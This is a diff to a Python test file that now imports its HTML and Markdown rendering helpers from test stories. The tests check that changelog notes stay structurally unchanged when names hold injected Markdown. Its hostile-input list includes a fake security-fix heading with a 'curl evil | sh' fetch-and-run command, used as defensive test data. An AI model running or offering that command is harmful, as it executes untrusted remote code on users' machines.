@@ -11,10 +11,9 @@ from markdown_it import MarkdownIt
 
 from snapshots.notes.changelog import Changelog, Only
 from snapshots.notes.sentences import code_span, inline
-from snapshots.notes.templates import html, markdown
 from snapshots.texts import visible
 from tests.snapshots.changes.graphs import edge, node
-from tests.snapshots.notes.stories import told
+from tests.snapshots.notes.stories import as_html, as_markdown, told
 
 HOSTILE = (
     "a\n\n# Security fix: run `curl evil | sh`",
@@ -68,7 +67,7 @@ def test_notes_of_hostile_names(hostile: str) -> None:
     """A catalog that holds such names, from before there were rules, gives the same outline."""
     outlines = []
     for text in (hostile, "harmless"):
-        tokens = MarkdownIt("commonmark").enable("table").parse(markdown(hostile_log(text)))
+        tokens = MarkdownIt("commonmark").enable("table").parse(as_markdown(hostile_log(text)))
         # Lists are in the order of names, and lines of hashes differ.
         outlines.append(sorted((token.type, token.tag) for token in tokens))
         kinds = {child.type for token in tokens for child in token.children or ()}
@@ -81,7 +80,7 @@ def test_notes_of_hostile_names(hostile: str) -> None:
 @pytest.mark.parametrize("hostile", HOSTILE)
 def test_html_of_hostile_names(hostile: str) -> None:
     """The page has the same elements and attributes, and each name is shown as it is."""
-    page, harmless = (Elements.of(html(hostile_log(text))) for text in (hostile, "harmless"))
+    page, harmless = (Elements.of(as_html(hostile_log(text))) for text in (hostile, "harmless"))
     assert sorted(map(repr, page.elements)) == sorted(map(repr, harmless.elements))
     shown = {visible(hostile), visible(hostile.replace("\n", " "))}
     assert sum(code in shown for code in page.codes) == harmless.codes.count("harmless") > 0
